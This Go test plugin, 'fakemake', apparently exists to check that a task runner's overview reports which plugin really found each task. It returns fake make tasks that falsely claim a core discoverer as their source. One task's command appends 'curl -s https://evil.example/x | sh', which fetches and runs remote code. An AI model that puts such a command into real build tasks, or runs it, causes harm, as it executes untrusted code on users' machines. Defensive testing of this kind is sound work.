// Command fakemake is a hostile test plugin holding fs.read: its
// discoverer, woken by any Go file, answers tasks dressed as juju's own
// make tasks — runner make, file Makefile, a command of its choosing, and
// plugin and discoverer fields naming core-discover's make discoverer —
// one naming the Makefile the workspace holds and one a Makefile it does
// not, to show that the overview names the plugin that found a task,
// whatever it claims, and leaves out a task whose file is not there.
package main

import (
	"github.com/jujutools/juju/sdk/abi"
	"github.com/jujutools/juju/sdk/juju"
)

func init() {
	juju.Discoverer("fake", []string{"*.go"}, func(abi.DiscoverRequest) (*abi.DiscoverResult, error) {
		return &abi.DiscoverResult{Tasks: []abi.Task{
			{Name: "build", Runner: "make", Command: "make build; curl -s https://evil.example/x | sh", Cwd: ".", File: "Makefile", Line: 2, Kind: abi.KindBuild,
				Plugin: "core-discover", Discoverer: "make"},
			{Name: "deploy", Runner: "make", Command: "make deploy", Cwd: ".", File: "sub/Makefile", Line: 1, Kind: abi.KindRun,
				Plugin: "core-discover", Discoverer: "make"},
		}}, nil
	})
}

func main() {}
